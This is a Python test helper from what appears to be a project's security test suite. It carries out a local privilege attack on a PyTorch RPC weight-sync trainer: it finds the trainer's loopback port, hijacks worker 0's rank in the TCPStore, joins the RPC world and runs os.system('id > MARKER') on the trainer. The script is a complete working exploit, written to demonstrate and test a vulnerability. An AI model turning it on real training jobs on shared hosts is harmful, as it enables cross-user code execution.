"""The attack on an opted-in ``rpc`` trainer, run as another local user (tests/test_strangers_rpc.py).

    python -m tests._attack_rpc PORT MARKER

Run as uid 65534 through :mod:`tests._as_stranger`. It uses nothing of the trainer's but the host:

1. it lists the loopback listeners a local user can read in ``/proc/net/tcp``;
2. for ``PORT`` among them (the test names the trainer's, so that the stranger never touches another
   program's listener on a shared machine; it must still find it in the list), it confirms a weightsync RPC
   store with ``TCPStore.list_keys()``;
3. it takes worker 0's rank with ``store.add("weightsync-joined/1", 1)`` and joins the world with torch's own
   ``rpc.init_rpc("weightsync-worker-0", rank=1, world_size=2)``;
4. it calls ``os.system("id > MARKER")`` in ``weightsync-trainer`` (``MARKER`` in a directory it owns).

Each step prints one line (``step: ...``); the last is ``called: <exit status>`` once the call returned.
"""

from __future__ import annotations

import os
import sys
from datetime import timedelta


def loopback_listeners() -> list[int]:
    """The TCP ports listening on 127.0.0.1 (or every address), as any user reads them in ``/proc/net/tcp``."""
    ports = []
    with open("/proc/net/tcp") as table:
        next(table)
        for line in table:
            local, state = line.split()[1], line.split()[3]
            addr, port = local.split(":")
            if state == "0A" and addr in ("0100007F", "00000000"):  # LISTEN, on 127.0.0.1 or 0.0.0.0
                ports.append(int(port, 16))
    return sorted(set(ports))


def main(port: int, marker: str) -> None:
    import torch.distributed as dist
    import torch.distributed.rpc as rpc

    print(f"uid: {os.getuid()}", flush=True)
    listeners = loopback_listeners()
    print(f"listeners: {len(listeners)} on loopback; the trainer's among them: {port in listeners}", flush=True)
    if port not in listeners:
        sys.exit(3)
    store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=10), wait_for_workers=False)
    keys = sorted(store.list_keys())
    print(f"keys: {keys}", flush=True)
    if not any(key.startswith("weightsync-joined/") for key in keys):
        sys.exit(4)
    won = int(store.add("weightsync-joined/1", 1)) == 1
    print(f"rank of worker 0 taken: {won}", flush=True)
    if not won:
        sys.exit(5)
    os.environ["TP_SOCKET_IFNAME"] = os.environ["GLOO_SOCKET_IFNAME"] = "lo"
    options = rpc.TensorPipeRpcBackendOptions(init_method=f"tcp://127.0.0.1:{port}", rpc_timeout=20)
    rpc.init_rpc("weightsync-worker-0", rank=1, world_size=2, rpc_backend_options=options)
    print("joined the world", flush=True)
    status = rpc.rpc_sync("weightsync-trainer", os.system, args=(f"id > {marker}",), timeout=20)
    print(f"called: {status}", flush=True)
    # Leave at once: the trainer's own calls to "worker 0" are not this program's business.
    os._exit(0)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
